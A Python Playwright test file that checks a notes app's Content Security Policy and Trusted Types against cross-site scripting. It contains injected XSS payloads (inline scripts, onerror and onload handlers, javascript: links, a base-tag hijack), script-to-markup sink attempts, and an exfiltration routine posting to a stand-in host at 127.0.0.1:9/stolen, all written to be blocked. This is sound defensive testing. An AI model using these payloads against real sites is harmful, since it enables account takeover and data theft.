"""The Content Security Policy: our pages live under it, and what is injected into them does not."""

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from tests.e2e import steps
from tests.e2e.conftest import Console
from tests.e2e.steps import Person
from tests.servers import Gatehouse

# What mallory got into the page's HTML, say by a bug in a template.
INJECTED = """
<script>globalThis.pwned = 'inline script'</script>
<script type="module">globalThis.pwned = 'inline module'</script>
<script src="data:text/javascript,globalThis.pwned='data script'"></script>
<script src="http://127.0.0.1:9/evil.js"></script>
<img src="x" onerror="globalThis.pwned = 'event handler'">
<svg onload="globalThis.pwned = 'svg'"></svg>
<a id="lure" href="javascript:globalThis.pwned='link'">click</a>
<iframe srcdoc="<script>parent.pwned = 'frame'</script>"></iframe>
<object data="data:text/html,<script>1</script>"></object>
<base href="http://127.0.0.1:9/">
<style>body { background: url(http://127.0.0.1:9/seen) }</style>
"""
# Each way from a text to markup or code; the names of those that worked come back.
SINKS = """
    async () => {
        // In a task of its own: what a debugger runs is itself excused from the rule against eval.
        await new Promise((resolve) => { setTimeout(resolve); });
        const markup = "<img src=x onerror=\\"globalThis.pwned='markup'\\">";
        const code = "globalThis.pwned = 'code'";
        const main = document.querySelector('main');
        const ways = {
            innerHTML: () => { main.innerHTML = markup; },
            outerHTML: () => { main.outerHTML = markup; },
            insertAdjacentHTML: () => main.insertAdjacentHTML('beforeend', markup),
            write: () => document.write(markup),
            parser: () => new DOMParser().parseFromString(markup, 'text/html'),
            fragment: () => document.createRange().createContextualFragment(markup),
            srcdoc: () => { document.createElement('iframe').srcdoc = markup; },
            attribute: () => main.setAttribute('onclick', code),
            scriptText: () => { document.createElement('script').text = code; },
            scriptSrc: () => { document.createElement('script').src = '/static/js/api.js'; },
            eval: () => (0, eval)(code),
            function: () => new Function(code)(),
            timeout: () => setTimeout(code),
            policy: () => trustedTypes.createPolicy('mallory', {createHTML: (text) => text}),
        };
        const worked = [];
        for (const [name, way] of Object.entries(ways)) {
            try { way(); worked.push(name); } catch { /* refused */ }
        }
        return worked;
    }
"""
EXFILTRATION = """
    async (where) => {
        await fetch(where).catch(() => {});
        const image = new Image();
        image.src = where;
        await new Promise((resolve) => { image.onerror = image.onload = resolve; });
        const form = document.createElement('form');
        Object.assign(form, {action: where, method: 'post'});
        document.body.append(form);
        setTimeout(() => form.submit());
    }
"""


@pytest.fixture
def alice(server: Gatehouse) -> Person:
    """Somebody who looks at every page."""
    return steps.new_person(server, "Alice")


def test_whole_visit_breaks_no_policy_and_logs_no_error(
    server: Gatehouse,
    page: Page,
    alice: Person,
    console: Console,
    new_context: Callable[..., BrowserContext],
) -> None:
    """Every page at every step, its dialogs too, with a console that stays empty."""
    elsewhere = new_context().new_page()
    steps.sign_in(elsewhere, alice)
    dialog = page.get_by_role("dialog")

    page.goto("/")
    expect(page.locator("[data-readable-cookies]")).not_to_have_text("not read yet")
    page.goto("/notes")  # and on to the sign-in page
    page.wait_for_url("**/login?*")
    page.get_by_role("button", name="Show what I type").click()
    steps.sign_in(page, alice)
    steps.write_note(page, "Milk")
    steps.save_note(page)
    page.get_by_role("button", name="Delete").click()
    dialog.get_by_role("button", name="Delete note").click()
    expect(page.locator("[data-count]")).to_contain_text("You have no notes yet.")
    page.goto("/")
    expect(page.locator("[data-enter]")).to_have_text("Go to your notes")
    page.goto("/account")
    page.get_by_role("button", name="End all others").click()
    dialog.get_by_role("button", name="End all others").click()
    expect(page.locator("[data-devices] li")).to_have_count(1)
    page.go_back()
    expect(page.locator("[data-user-name]")).to_have_text(alice.name)
    page.go_forward()
    expect(page.locator("[data-devices] li")).to_have_count(1)
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/login?*")
    expect(page.locator("[data-reason]")).to_contain_text("You have signed out.")

    # Chromium reports at sign-out what Clear-Site-Data has done, as an error.
    said = [line for line in console.messages if "Clear-Site-Data" not in line]
    assert said == []
    assert console.csp_violations == []


def test_page_that_does_not_exist_explains_itself_within_the_policy(
    page: Page, console: Console
) -> None:
    """A 404 page in our own looks, whose only console line is the browser's about the 404."""
    answer = page.goto("/no/such/page")

    assert answer
    assert answer.status == 404
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    assert all("404" in line for line in console.messages)
    assert console.csp_violations == []


@pytest.mark.expects_violations
def test_markup_injected_into_the_html_runs_nothing(
    server: Gatehouse, context: BrowserContext, page: Page, alice: Person, console: Console
) -> None:
    """Inline, foreign or encoded script, handlers, frames, a new base: all dead; the page works."""

    def inject(route: Route) -> None:
        answer = route.fetch()
        html = answer.text()
        assert "<main" in html
        route.fulfill(response=answer, body=re.sub(r"(<main[^>]*>)", rf"\1{INJECTED}", html))

    steps.sign_in(page, alice)
    context.route(f"{server.url}/notes", inject)
    page.reload()
    steps.expect_signed_in(page, alice)
    page.locator("#lure").click()
    steps.write_note(page, "Still working")
    steps.save_note(page)

    assert page.evaluate("globalThis.pwned") is None
    broken = {v["directive"] for v in console.csp_violations if v["disposition"] == "enforce"}
    assert {"script-src-elem", "script-src-attr", "base-uri", "style-src-elem"} <= broken


@pytest.mark.expects_violations
def test_text_turned_into_markup_or_code_by_script_is_refused(
    page: Page, alice: Person, console: Console
) -> None:
    """Trusted Types: innerHTML and its relatives throw, and nobody can make a policy for them."""
    steps.sign_in(page, alice)

    worked = page.evaluate(SINKS)

    assert worked == []
    assert page.evaluate("globalThis.pwned") is None
    enforced = [v for v in console.csp_violations if v["disposition"] == "enforce"]
    directives = {violation["directive"] for violation in enforced}
    assert {"require-trusted-types-for", "trusted-types"} <= directives


@pytest.mark.expects_violations
def test_script_that_runs_all_the_same_cannot_send_anything_elsewhere(
    server: Gatehouse, page: Page, alice: Person, console: Console
) -> None:
    """Requests, images and forms stay on our origin, whoever asks for them."""
    steps.sign_in(page, alice)

    page.evaluate(EXFILTRATION, "http://127.0.0.1:9/stolen")

    wanted = {"connect-src", "form-action", "img-src"}
    with page.expect_console_message(lambda _: wanted <= refused(console)):
        page.evaluate("setTimeout(() => console.log('a last word'), 100)")
    assert refused(console) == wanted
    assert page.url == f"{server.url}/notes"


def refused(console: Console) -> set[str]:
    """The directives that stopped something."""
    enforced = [v for v in console.csp_violations if v["disposition"] == "enforce"]
    return {violation["directive"] for violation in enforced}
